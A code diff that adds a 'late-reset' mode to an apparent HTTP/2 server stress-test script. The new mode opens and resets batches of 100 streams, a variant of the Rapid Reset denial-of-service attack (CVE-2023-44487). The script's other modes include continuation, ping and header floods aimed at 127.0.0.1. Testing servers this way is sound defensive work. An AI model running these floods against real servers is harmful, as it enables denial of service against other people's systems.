@@ -7,6 +7,7 @@ attacks 127.0.0.1:PORT the way MODE says, for at most 15 seconds, and prints
 one line: what the server did and after how long.
 
   rapid-reset         streams opened and reset at once (CVE-2023-44487)
+  late-reset          5 rounds of 100 requests, each reset 50 ms after it was sent
   continuation-flood  a HEADERS frame, then CONTINUATION frames that never end it
   big-headers         a request whose header list is about 100 KB
   ping-flood          PING frames, never reading the answers
@@ -106,6 +107,25 @@ def rapid_reset(port, started, stop):
     return outcome_until_closed(sock, conn, started, stop)
 
 
+def late_reset(port, started, stop):
+    sock, conn = connect(port)
+    for _ in range(5):
+        streams = [conn.get_next_available_stream_id() for _ in range(1)]
+        for _ in range(99):
+            conn.send_headers(streams[-1], REQUEST, end_stream=True)
+            streams.append(conn.get_next_available_stream_id())
+        conn.send_headers(streams[-1], REQUEST, end_stream=True)
+        sock.sendall(conn.data_to_send())
+        time.sleep(0.05)
+        for stream_id in streams:
+            conn.reset_stream(stream_id)
+        sock.sendall(conn.data_to_send())
+        said = ending(sock, conn, started, 0.01)
+        if said:
+            return said
+    return "reset 500 after %.2f s" % (time.monotonic() - started)
+
+
 def raw_headers(stream_id, headers, end_headers):
     block = Encoder().encode(headers)
     chunks = [block[i:i + 16384] for i in range(0, len(block), 16384)]
@@ -119,6 +139,8 @@ def raw_headers(stream_id, headers, end_headers):
 def attack(mode, port, started, stop):
     if mode == "rapid-reset":
         return rapid_reset(port, started, stop)
+    if mode == "late-reset":
+        return late_reset(port, started, stop)
     if mode == "closed-window":
         sock, conn = connect(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
         conn.send_headers(1, REQUEST, end_stream=True)
